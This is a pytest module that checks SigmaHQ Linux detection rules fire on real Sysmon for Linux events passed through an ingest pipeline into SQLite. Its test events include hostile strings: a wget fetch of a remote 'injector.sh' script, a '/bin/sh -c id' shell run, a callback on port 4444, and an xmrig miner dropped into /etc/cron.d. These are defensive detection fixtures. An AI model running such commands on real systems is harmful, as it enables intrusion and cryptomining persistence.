"""SigmaHQ linux rules on Sysmon for Linux, end to end: syslog lines carrying Sysmon's XML ->
a real file source (``parser: sysmon_linux``) -> transport -> indexer -> SQLite -> the rule
as the scheduler compiles it.

The events are the real ones of tests/ingest/parse/data/sysmon_linux.log (sources in its
header), some with one value changed to what the rule looks for. The rules on the parent
process, the working directory and Sysmon's LogonId are the ones auditd can never fire.
"""

from __future__ import annotations

import shutil
from datetime import timedelta
from pathlib import Path

import pytest

from alerting.detect.cannot_fire import can_fire
from alerting.detect.compile.pipeline import load_pipeline
from alerting.detect.compile.rules import CompiledRule, compile_rules
from alerting.detect.field_contract import is_known
from alerting.detect.load.ruleset import load_rules
from canhgac.config import FileSourceConfig
from canhgac.models import Event
from canhgac.store.sqlite.store import SQLiteStore
from ingest.indexer import Indexer
from ingest.sources.registry import build
from ingest.transport.memory import MemoryTransport

ROOT = Path(__file__).resolve().parents[2]
SIGMAHQ_LINUX = ROOT.parent / "shared" / "sigmahq-all" / "rules" / "linux"
PIPELINE = ROOT / "rules" / "pipelines" / "ecs.yml"
END = "2200-01-01T00:00:00.000000Z"
LINES = [
    line
    for line in (ROOT / "tests" / "ingest" / "parse" / "data" / "sysmon_linux.log")
    .read_text(encoding="utf-8")
    .splitlines()
    if line and not line.startswith("#")
]
WGET, CURL, CURL_CONNECT, CURL_FILE = LINES[:4]

JAVA_CHILD = WGET.replace(
    '<Data Name="ParentImage">/bin/bash</Data>',
    '<Data Name="ParentImage">/usr/lib/jvm/java-17-openjdk-amd64/bin/java</Data>',
)
OMIGOD = WGET.replace(
    '<Data Name="CurrentDirectory">/root</Data>',
    '<Data Name="CurrentDirectory">/var/opt/microsoft/scx/tmp</Data>',
).replace("wget http://44.204.18.94:80/injector.sh", "/bin/sh -c id")
CALLBACK = CURL_CONNECT.replace(
    '<Data Name="DestinationPort">80</Data>', '<Data Name="DestinationPort">4444</Data>'
)
CRON_FILE = CURL_FILE.replace("/opt/automation/xmrig", "/etc/cron.d/xmrig")
# (SigmaHQ rule, the line it must fire on, a real line it must not fire on)
CASES = [
    ("process_creation/proc_creation_lnx_curl_usage.yml", CURL, WGET),
    ("process_creation/proc_creation_lnx_susp_java_children.yml", JAVA_CHILD, WGET),
    ("process_creation/proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml",
     OMIGOD, WGET),
    ("network_connection/net_connection_lnx_susp_malware_callback_port.yml", CALLBACK,
     CURL_CONNECT),
    ("file_event/file_event_lnx_susp_cron_file_created.yml", CRON_FILE, CURL_FILE),
]  # fmt: skip


def compiled(rule_path: Path, tmp_path: Path) -> CompiledRule:
    if not rule_path.is_file():
        pytest.fail(f"SigmaHQ corpus missing at {rule_path}")
    rules = tmp_path / "rules"
    rules.mkdir()
    shutil.copy(rule_path, rules / rule_path.name)
    ruleset = compile_rules(
        load_rules(rules), load_pipeline([PIPELINE]), "sqlite", default_interval=timedelta(1)
    )
    assert ruleset.errors == [] and len(ruleset.rules) == 1, ruleset.errors
    return ruleset.rules[0]


def stored_through_a_file_source(lines: list[str], tmp_path: Path) -> SQLiteStore:
    log = tmp_path / "sysmon.log"
    log.write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
    store = SQLiteStore(tmp_path / "events.db")
    transport = MemoryTransport(64)
    indexer = Indexer(transport, store, batch_wait=0.01, receive_timeout=0.02)
    config = FileSourceConfig(
        name="sysmon", path=str(log), poll_interval="10ms", parser="sysmon_linux"
    )
    source = build(config, transport, tmp_path / "state")
    try:
        source.poll()  # type: ignore[attr-defined]
        while transport.pending():
            indexer.run_once(timeout=0)
    finally:
        source.stop()
        transport.close()
    return store


@pytest.mark.parametrize(("rule_file", "fires", "quiet"), CASES)
def test_sigmahq_rule_fires_on_sysmon_for_linux(
    rule_file: str, fires: str, quiet: str, tmp_path: Path
) -> None:
    rule = compiled(SIGMAHQ_LINUX / rule_file, tmp_path)
    store = stored_through_a_file_source([quiet, fires], tmp_path)
    try:
        hits: list[Event] = store.search_events(rule.query, "", END).events
        assert store.count_events() == 2
        assert [hit.fields["event.original"] for hit in hits] == [fires]
        assert hits[0].fields["event.dataset"] == "sysmon_linux.log"
    finally:
        store.close()


def test_the_parent_image_rule_cannot_fire_on_auditd_alone(tmp_path: Path) -> None:
    # What "cannot fire" says for a site without Sysmon: only Sysmon has the parent image.
    rule = compiled(SIGMAHQ_LINUX / CASES[1][0], tmp_path)
    assert "process.parent.executable" in rule.query
    assert not is_known("process.parent.executable", {"auditd.log"})
    assert is_known("process.parent.executable", {"auditd.log", "sysmon_linux.log"})
    assert not can_fire(rule.source.rule, {"ParentImage"}.__contains__)
